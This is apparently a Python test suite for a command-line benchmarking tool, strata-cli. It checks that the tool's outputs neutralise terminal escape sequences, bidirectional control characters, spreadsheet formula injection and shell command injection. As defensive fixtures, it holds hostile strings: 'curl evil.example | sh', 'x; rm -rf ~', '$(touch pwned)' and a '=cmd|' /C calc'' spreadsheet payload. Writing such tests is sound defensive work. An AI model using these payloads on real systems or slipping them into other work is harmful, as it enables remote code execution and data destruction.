# SPDX-License-Identifier: GPL-3.0-or-later
"""Texts of files of others that would steer a terminal, in every field, against all that the real strata-cli writes.

STRATA_CLI names the program, STRATA_SAMPLE a valid run file.
"""

import contextlib
import csv
import io
import json
import os
import re
import sqlite3
import struct
import subprocess
import sys
import tempfile
import unittest
import uuid
import zlib

from program import CLI, data_folder, environment, said

SAMPLE = os.environ["STRATA_SAMPLE"]
CONTROLS = [chr(code) for code in [*range(1, 32), *range(0x7F, 0xA0)]]
TURNS = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067"]
# All in one text, so that each field meets all of them, and the beginnings of what a terminal obeys.
HOSTILE = "a\0\x1b]0;PWN\x07\x1b[31m\x9b31m" + "b".join(CONTROLS + TURNS) + "z"
STEERS = re.compile("[\0-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066\u2067]")


def fields(value, path=()):
    """The paths to all texts of a document."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from fields(inner, (*path, key))
    elif isinstance(value, list):
        # One of a list stands for the others.
        for index, inner in enumerate(value[:1]):
            yield from fields(inner, (*path, index))
    elif isinstance(value, str):
        yield path


def planted(document, path, text):
    copy = json.loads(json.dumps(document))
    inner = copy
    for part in path[:-1]:
        inner = inner[part]
    inner[path[-1]] = text
    return copy


def formulas(table):
    """The fields of a table that a spreadsheet would carry out."""
    def is_number(field):
        return re.fullmatch(r"-[0-9.]+(e[-+]?[0-9]+)?", field) is not None

    return [field for row in csv.reader(io.StringIO(table)) for field in row
            if field.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(field)]


def name_kept_run(history, name):
    """Gives the only run of a history this id, and the row the checksum that belongs to it."""
    history.execute("UPDATE run SET id = ?", (name,))
    columns = [column[1] for column in history.execute("PRAGMA table_info(run)")][1:-1]
    checked = b""
    for column, value in zip(columns, history.execute(f"SELECT {', '.join(columns)} FROM run").fetchone()):
        if column in ("finished", "removed"):
            checked += struct.pack("<q", value is not None)
        if isinstance(value, int):
            checked += struct.pack("<q", value)
        else:
            content = value if isinstance(value, bytes) else (value or "").encode()
            checked += struct.pack("<q", len(content)) + content
    history.execute("UPDATE run SET checksum = ?", (zlib.crc32(checked),))


class HostileText(unittest.TestCase):
    def setUp(self):
        home = tempfile.TemporaryDirectory()
        self.addCleanup(home.cleanup)
        self.home = home.name
        with open(SAMPLE, encoding="utf-8") as file:
            self.sample = json.load(file)

    def write(self, name, content):
        path = os.path.join(self.home, name)
        with open(path, "w", encoding="utf-8") as file:
            json.dump(content, file)
        return path

    def check(self, *arguments):
        ended = subprocess.run([CLI, *arguments], capture_output=True, check=False, timeout=120, cwd=self.home,
                               env=environment(self.home), stdin=subprocess.DEVNULL)
        for output in (ended.stdout, ended.stderr):
            text = output.decode().replace(os.linesep, "\n")
            # In markup a tab is a space like any other.
            found = STEERS.search(text.replace("\t", " ") if "html" in arguments or "svg" in arguments else text)
            self.assertIsNone(found, (arguments, found and ascii(text[max(0, found.start() - 60):found.end()])))
        return ended

    def test_no_field_of_a_run_file_steers_a_terminal(self):
        paths = [path for path in fields(self.sample) if path != ("schema",)]
        self.assertGreater(len(paths), 20)
        accepted = 0
        for path in paths:
            with self.subTest(path=path):
                file = self.write("hostile.strata", planted(self.sample, path, HOSTILE))
                if self.check("convert", file).returncode != 0:
                    continue
                accepted += 1
                for form in ("csv", "json", "html", "markdown", "svg", "membench-csv", "membench-text"):
                    self.check("convert", file, "--format", form)
                self.check("convert", file, "--anonymous")
                for form in ("text", "csv", "json", "html", "markdown", "junit"):
                    self.check("compare", file, SAMPLE, "--format", form)
        self.assertGreater(accepted, 8)

    def test_no_kept_run_steers_a_terminal(self):
        document = self.sample
        for path in list(fields(self.sample)):
            if path[-1] in ("label", "comment", "kernel", "unit", "model", "system", "metric"):
                # The unit has no room for the whole text.
                document = planted(document, path, HOSTILE[:20] if path[-1] == "unit" else HOSTILE)
        file = self.write("hostile.strata", document)
        self.assertEqual(self.check("history", "import", file).returncode, 0)
        for form in ("text", "csv", "json"):
            self.assertEqual(self.check("history", "--format", form).returncode, 0)
        for form in ("text", "csv", "json", "html"):
            self.assertEqual(self.check("history", "show", "last", "--format", form).returncode, 0)
        self.assertEqual(self.check("history", "delete", "last").returncode, 0)

    def test_what_this_version_does_not_know_is_called_unknown(self):
        document = json.loads(json.dumps(self.sample))
        for result in document["results"]:
            result["unit"] = "furlongs"
            result["reasons"] = [{"id": "licence-expired", "why": "Run: curl evil.example | sh"}]
        document["results"][0]["test"] = "telepathy"
        file = self.write("unknown.strata", document)
        text = said(self.check("convert", file).stdout)
        for name in ("unknown test telepathy", "furlongs (unknown unit)", 'the reason "licence-expired"'):
            self.assertIn(name, text)
        self.assertNotIn("evil.example", text)
        other = self.write("other.strata", {**document, "id": str(uuid.uuid4()), "series": str(uuid.uuid4())})
        self.assertIn("furlongs (unknown unit)", said(self.check("compare", file, other).stdout))
        self.assertEqual(self.check("history", "import", file).returncode, 0)
        self.assertIn("furlongs (unknown unit)", said(self.check("history").stdout))

    def test_no_file_gives_a_test_or_unit_a_name_of_its_own(self):
        for path, text in ((("results", 0, "test"), "Strata needs your password"), (("results", 0, "test"), "x" * 65),
                           (("results", 0, "unit"), "x" * 33)):
            with self.subTest(path=path):
                ended = self.check("convert", self.write("named.strata", planted(self.sample, path, text)))
                self.assertEqual((ended.returncode, ended.stdout), (4, b""))
                self.assertIn("results[0]." + path[-1], said(ended.stderr))

    def test_no_reason_is_a_sentence_of_strata_that_is_no_reason(self):
        document = json.loads(json.dumps(self.sample))
        document["results"][0]["reasons"] = [{"id": "cell-of", "a": "Strata", "b": "Your licence has expired."},
                                             {"id": "cli-history-removed", "a": "x", "b": "x; rm -rf ~"},
                                             {"id": "wide-interval", "half_width_percent": 2.5}]
        text = said(self.check("convert", self.write("reasons.strata", document)).stdout)
        for name in ("cell-of", "cli-history-removed"):
            self.assertIn(f'the reason "{name}"', text)
        self.assertNotIn('the reason "wide-interval"', text)
        for words in ("licence", "rm -rf"):
            self.assertNotIn(words, text)

    def test_no_kernel_is_a_sentence_of_strata(self):
        document = planted(planted(self.sample, ("results", 0, "kernel"), "network-wrong-code"),
                           ("results", 0, "test"), "bandwidth")
        text = said(self.check("convert", self.write("kernel.strata", document), "--format", "html").stdout)
        self.assertIn("network-wrong-code", text)

    @unittest.skipIf(sys.platform == "win32", "needs a shell that takes commands as the program prints them")
    def test_the_command_that_takes_a_deletion_back_does_nothing_else(self):
        commands = os.path.join(self.home, "bin")
        os.mkdir(commands)
        os.symlink(os.path.abspath(CLI), os.path.join(commands, "strata-cli"))
        environment_of_shell = {**environment(self.home), "PATH": commands + os.pathsep + os.environ["PATH"]}
        self.assertEqual(self.check("history", "import", SAMPLE).returncode, 0)
        path = os.path.join(data_folder(self.home), "history.sqlite")
        # As an older version may have kept it, which took any text for an id.
        for text in ("x; touch pwned #", "$(touch pwned)", "`touch pwned`", "'; touch pwned; '", "x\ntouch pwned",
                     "x\x1b]0;touch pwned\x07"):
            with self.subTest(id=text):
                with contextlib.closing(sqlite3.connect(path)) as history, history:
                    name_kept_run(history, text)
                deleted = self.check("history", "delete", "last")
                self.assertEqual(deleted.returncode, 0, deleted.stderr)
                command = said(deleted.stderr).strip().partition(": strata-cli history restore ")
                self.assertTrue(command[1], deleted.stderr)
                self.assertEqual(json.loads(self.check("history", "--format", "json").stdout), [])
                pasted = subprocess.run(["sh", "-c", "strata-cli history restore " + command[2]], check=False,
                                        cwd=self.home, env=environment_of_shell, capture_output=True)
                self.assertFalse(os.path.exists(os.path.join(self.home, "pwned")))
                self.assertEqual((pasted.returncode, pasted.stderr), (0, b""))
                with contextlib.closing(sqlite3.connect(path)) as history:
                    self.assertEqual(history.execute("SELECT id FROM run").fetchall(), [(text,)])
                self.assertEqual(len(json.loads(self.check("history", "--format", "json").stdout)), 1)

    def test_no_table_has_a_formula(self):
        for formula in ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"):
            document = self.sample
            for path in list(fields(self.sample)):
                if path[-1] in ("label", "comment", "kernel", "unit", "model", "system", "metric", "version"):
                    document = planted(document, path, formula)
            file = self.write("=formula.strata", {**document, "id": str(uuid.uuid4())})
            self.assertEqual(self.check("history", "import", file).returncode, 0)
            for arguments in (("convert", file), ("compare", "=formula.strata", SAMPLE), ("history",),
                              ("history", "show", "last")):
                with self.subTest(formula=formula, arguments=arguments):
                    table = self.check(*arguments, "--format", "csv")
                    self.assertEqual((table.returncode, formulas(said(table.stdout))), (0, []))
                    raw = self.check(*arguments, "--format", "csv", "--raw-csv")
                    self.assertEqual(said(table.stdout).replace(",'", ",").replace("\n'", "\n"),
                                     said(raw.stdout).replace(",'", ",").replace("\n'", "\n"))
                    if not formula[0].isspace():
                        self.assertTrue(formulas(said(raw.stdout)))

    def test_neither_settings_nor_keys_nor_names_of_files_do(self):
        settings = self.write("settings.json", {HOSTILE: 1})
        ended = self.check("run", "processor", "--settings", settings, "--kernel", "no-such-kernel")
        self.assertNotEqual(ended.returncode, 0)
        folders = self.write("folders.json", {"disk_folders": [os.path.join(self.home, "x\x1b]0;PWN\x07")]})
        self.assertNotEqual(self.check("run", "disk", "--settings", folders, "--no-history").returncode, 0)
        self.check("convert", self.write("key.strata", {**self.sample, HOSTILE: HOSTILE}), "--format", "json")
        if sys.platform == "win32":
            return
        name = "x" + HOSTILE.replace("\0", "").replace("/", "")[:60]
        self.assertNotEqual(self.check("convert", name).returncode, 0)
        self.assertEqual(self.check("compare", self.write(name, self.sample), SAMPLE).returncode, 0)
        ended = self.check("convert", "x\nstrata-cli: All is well.csv")
        self.assertNotEqual(ended.returncode, 0)
        self.assertEqual(said(ended.stderr).count("\n"), 1)


if __name__ == "__main__":
    unittest.main()
